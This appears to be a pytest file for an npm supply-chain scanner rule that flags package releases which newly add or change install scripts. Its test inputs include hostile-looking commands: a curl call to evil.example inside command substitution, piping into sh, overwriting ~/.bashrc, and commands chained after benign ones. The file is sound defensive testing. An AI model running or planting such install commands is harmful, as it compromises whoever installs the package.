"""new-install-script of a locked release; test_publish_manifest has it before publishing."""

from typing import Any

import pytest
from npmproject import project
from support.releases import evidence, history, release

from npmguard.model import Finding, Publication, Severity
from npmguard.rules.install_time import alike, is_known
from npmguard.rules.new_install_script import RULE
from npmguard.settings import Settings

NODE = {"postinstall": "node setup.js"}
QUIET = tuple(release(f"1.0.{n}", n * 10) for n in range(4))


def check(
    *releases: Publication, version: str = "1.0.9", locked: dict[str, Any] | None = None
) -> list[Finding]:
    given = {"node_modules/a": {"version": version, **(locked or {})}}
    shop = project({"dependencies": {"a": "^1.0.0"}}, given)
    return [
        f for f in RULE.check(shop, evidence(history("a", *releases)), Settings()) if isinstance(f, Finding)
    ]


def bad(scripts: Any = NODE, day: float = 100, version: str = "1.0.9", **fields: Any) -> Publication:
    return release(version, day, scripts=scripts, **fields)


def test_a_release_that_runs_what_none_before_it_did() -> None:
    (found,) = check(*QUIET, bad())
    assert found.severity == Severity.HIGH
    assert found.title == "a@1.0.9 runs postinstall on install, which 1.0.3 did not"
    assert found.detail == (
        "postinstall: node setup.js. None of the 4 releases from 1.0.0 to 1.0.3 ran anything on install. "
        "This runs with the rights of whoever installs. Stay on 1.0.3."
    )
    assert found.fix == ("downgrade", "1.0.3", "npm install a@1.0.3")


@pytest.mark.parametrize(
    "command",
    [
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "(node-gyp rebuild 2> builderror.log) || (exit 0)",
        "node-pre-gyp install --fallback-to-build",
        "npx -y only-allow pnpm",
        "is-ci || husky install",
        "echo 'Thank you; please (do) give'",
        'echo "\\x1B[1ma is in maintenance, b is its successor"',
    ],
)
def test_what_many_run_is_moderate(command: str) -> None:
    assert is_known(command)
    (found,) = check(*QUIET, bad({"install": command}))
    assert found.severity == Severity.MODERATE


@pytest.mark.parametrize(
    "command",
    [
        "node-gyp rebuild && node x.js",
        "echo $(curl https://evil.example/)",
        "echo `node x.js`",
        'echo "$(node x.js)"',
        "echo aaaa | sh",
        "echo x & node x.js",
        "husky install > ~/.bashrc; sh x",
        "make < x `y`",
        "npm run build",
        "./node-gyp",
        "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
        "echo " + "x" * 20_000,
    ],
)
def test_what_only_looks_like_that(command: str) -> None:
    assert not is_known(command)


def test_the_first_of_several_bad_releases_excuses_none() -> None:
    (found,) = check(*QUIET, bad(version="1.0.8", day=99.9), bad())
    assert found.severity == Severity.HIGH
    assert found.fix is not None
    assert found.fix.to == "1.0.3"


def test_of_another_line_nothing_is_asked() -> None:
    newer = [release(f"2.0.{n}", 50 + n, scripts={"install": "node make.js"}) for n in range(4)]
    (found,) = check(*QUIET, *newer, bad())
    assert found.severity == Severity.HIGH
    assert (
        check(*QUIET, *newer, bad(version="2.0.9", scripts={"install": "node make.js"}), version="2.0.9")
        == []
    )


def test_what_went_on_for_a_month_is_settled() -> None:
    assert check(*QUIET, bad(), bad(version="1.0.10", day=131)) == []
    assert len(check(*QUIET, bad(), bad(version="1.0.10", day=120))) == 1
    assert len(check(*QUIET, bad(), release("1.0.10", 131))) == 1


@pytest.mark.parametrize(
    "releases",
    [
        (release("1.0.0", 0), release("1.0.1", 9), bad()),  # too few to tell
        (*QUIET, release("1.0.9", 100)),
        (*QUIET, bad(day=100)._replace(version="1.0.8"), release("1.0.9", 120)),
    ],
)
def test_what_says_nothing(releases: tuple[Publication, ...]) -> None:
    assert check(*releases) == []


def test_a_script_that_came_and_went_before_is_less() -> None:
    once = release("0.9.0", -10, scripts=NODE)
    short = (release("1.0.0", 0, scripts=NODE), *(release(f"1.0.{n}", n * 10) for n in range(1, 5)))
    assert [f.severity for f in check(once, *QUIET, bad())] == [Severity.HIGH]
    assert [f.severity for f in check(*short, bad())] == [Severity.MODERATE]
    long = (*short[:1], *(release(f"1.0.{n}", n * 5) for n in range(1, 15)))
    assert [f.severity for f in check(*long, bad(version="1.0.20"), version="1.0.20")] == [Severity.HIGH]


def test_another_command_is_a_sign_among_others() -> None:
    before = tuple(release(f"1.0.{n}", n * 10, scripts=NODE) for n in range(4))
    (found,) = check(*before, bad({"postinstall": "node telemetry.js"}))
    assert found.severity == Severity.LOW
    assert found.title == "a@1.0.9 runs another postinstall on install than 1.0.3"
    (found,) = check(*before, bad({"preinstall": "node other.mjs"}))
    assert found.severity == Severity.MODERATE
    assert check(*before, bad({"postinstall": "node ./setup"})) == []
    assert check(*before, bad({"install": "node setup.js"})) == []
    assert check(*before, bad({**NODE, "install": "node-gyp rebuild"})) == []
    assert alike("node ./a.js", "node a")


def test_a_script_of_which_the_registry_says_nothing() -> None:
    (found,) = check(*QUIET, bad(None))
    assert (found.severity, found.confidence.name) == (Severity.MODERATE, "MEDIUM")
    assert found.title == "a@1.0.9 runs a script on install, which 1.0.3 did not"
    (found,) = check(*QUIET, bad({}), locked={"hasInstallScript": True})
    assert "binding.gyp" in found.detail
    assert check(*QUIET, bad({}), locked={"hasInstallScript": False}) == []


def test_a_binding_gyp_counts() -> None:
    (found,) = check(*QUIET, bad({"install": "node-gyp rebuild"}))
    assert "npm compiles its binding.gyp, and runs what stands in it." in found.detail
